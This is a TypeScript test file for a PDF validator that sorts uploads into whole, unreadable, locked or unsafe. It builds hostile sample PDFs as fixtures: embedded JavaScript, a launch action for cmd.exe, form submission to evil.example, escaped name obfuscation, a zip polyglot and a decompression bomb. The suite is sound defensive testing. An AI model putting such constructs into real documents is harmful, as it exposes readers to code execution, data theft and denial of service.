import { deflateSync } from 'node:zlib'
import PdfDocument from 'pdfkit'
import { describe, expect, test } from 'vitest'
import { aPdf } from '#test/support/made-pdf.ts'
import { isPdf, pdfProblemOf } from './pdf-check.ts'

const link = '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://foscos.fssai.gov.in) >> >>'
const annotation3d = '<< /Type /Annot /Subtype /3D /3DD 4 0 R >>'
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

async function drawn(options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const document = new PdfDocument(options)
  const parts: Buffer[] = []
  document.on('data', (part: Buffer) => parts.push(part))
  const ended = new Promise((resolve) => document.on('end', resolve))
  document.text('FSSAI licence 11526001000061')
  document.end()
  await ended
  return Buffer.concat(parts)
}

describe('a PDF is taken', () => {
  test.each([
    ['as a program draws it', () => drawn()],
    ['of a table of objects', () => aPdf()],
    ['with links, which nobody is made to follow', () => aPdf({ objects: [link] })],
    ['of compressed objects', () => aPdf({ packed: link })],
    ['signed, with a form field', () => aPdf({ packed: '<< /FT /Sig /V << /Type /Sig /Filter /Adobe.PPKLite >> >>' })],
    [
      'with a scanned page whose bytes spell a short name',
      () => aPdf({ objects: [streamOf('\xff/3D\x00\x81/XFA\xd9')] }),
    ],
    ['with a form without a program', () => aPdf({ packed: '<< /AcroForm << /Fields [] >> >>' })],
    ['with a name that only begins like a forbidden one', () => aPdf({ objects: ['<< /LaunchPad 1 /XFAQ 2 >>'] })],
  ])('%s', async (_, make) => {
    const bytes = await make()
    expect([isPdf(bytes), pdfProblemOf(bytes)]).toEqual([true, undefined])
  })

  test('with an earlier version within, as programs save changes', () => {
    const [before, after] = [aPdf(), aPdf()]
    const moved = after
      .toString('latin1')
      .replace(/startxref\n(\d+)/, (_, at) => `startxref\n${Number(at) + before.length}`)
    expect(pdfProblemOf(Buffer.concat([before, Buffer.from(moved, 'latin1')]))).toBeUndefined()
  })
})

describe('a PDF is not whole', () => {
  const whole = aPdf()
  test.each([
    ['that is cut short', whole.subarray(0, whole.length - 20)],
    ['of nothing but a header', Buffer.from('%PDF-1.7\n')],
    ['of no version that there is', aPdf({ header: '%PDF-9.9\n' })],
    ['with something behind its end', Buffer.concat([whole, Buffer.from('<html><script>alert(1)</script>')])],
    ['whose table is elsewhere', Buffer.from(whole.toString('latin1').replace(/startxref\n\d+/, 'startxref\n9'))],
    [
      'whose table is behind its end',
      Buffer.from(whole.toString('latin1').replace(/startxref\n\d+/, 'startxref\n9999')),
    ],
    ['without a root', Buffer.from(whole.toString('latin1').replace('/Root', '/Boot'))],
    [
      'whose compressed objects are none',
      aPdf({ objects: ['<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nx\nendstream'] }),
    ],
    [
      'whose objects are packed in another way',
      aPdf({ packed: script, packedHead: '/Type /ObjStm /Filter /LZWDecode' }),
    ],
    [
      'whose objects are packed twice',
      aPdf({ packed: script, packedHead: '/Type /ObjStm /Filter [/FlateDecode /ASCIIHexDecode]' }),
    ],
    ['whose way of packing is elsewhere', aPdf({ packed: script, packedHead: '/Type /ObjStm /Filter 7 0 R' })],
    [
      'whose objects are spread by a predictor',
      aPdf({ packed: script, packedHead: '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>' }),
    ],
    [
      'whose objects hide behind an end that is none',
      aPdf({ packed: script, packedHead: '/Type /ObjStm /X (endstream) /Filter /FlateDecode' }),
    ],
    ['that unpacks to more than any licence', aPdf({ objects: [bomb()] })],
  ])('%s', (_, bytes) => {
    expect(pdfProblemOf(bytes)).toBe('unreadable')
  })
})

test('a PDF that needs a password is told apart', async () => {
  expect(pdfProblemOf(await drawn({ userPassword: 'secret' }))).toBe('locked')
  expect(pdfProblemOf(aPdf({ trailer: '/Encrypt 4 0 R' }))).toBe('locked')
})

describe('a PDF is unsafe', () => {
  test.each([
    ['with a script', aPdf({ objects: [script] })],
    ['with a script in compressed objects', aPdf({ packed: script })],
    ['with a script whose name is spelt with escapes', aPdf({ objects: ['<< /S /J#61vaScr#69pt /JS (x) >>'] })],
    ['with such a name in compressed objects', aPdf({ packed: '<< /S /#4aavaScript >>' })],
    [
      'with such a name for compressed objects',
      aPdf({ packed: script, packedHead: '/Type /Obj#53tm /Filter /#46lateDecode' }),
    ],
    ['that starts a program', aPdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] })],
    ['with a file in it', aPdf({ objects: ['<< /Type /EmbeddedFile >>\nstream\nMZ\nendstream'] })],
    ['that sends a form', aPdf({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] })],
    ['with a film', aPdf({ packed: '<< /Subtype /RichMedia >>' })],
    [
      'with a model in 3D',
      aPdf({ packed: annotation3d, objects: ['<< /Type /3D /Subtype /U3D >>\nstream\nU3D\nendstream'] }),
    ],
    ['with a form that is a program', aPdf({ packed: '<< /AcroForm << /XFA 9 0 R >> >>' })],
    ['that is an archive too', aPdf({ trailer: '% PK\x05\x06' })],
  ])('%s', (_, bytes) => {
    expect(pdfProblemOf(bytes)).toBe('unsafe')
  })
})

test('what only looks like a PDF to some is none', () => {
  expect(isPdf(Buffer.from('\n%PDF-1.7'))).toBe(false)
  expect(isPdf(Buffer.from('<svg/>'))).toBe(false)
})

function streamOf(bytes: string): string {
  return `<< /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`
}

function bomb(): string {
  const bytes = deflateSync(Buffer.alloc(40 * 1024 * 1024)).toString('latin1')
  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`
}
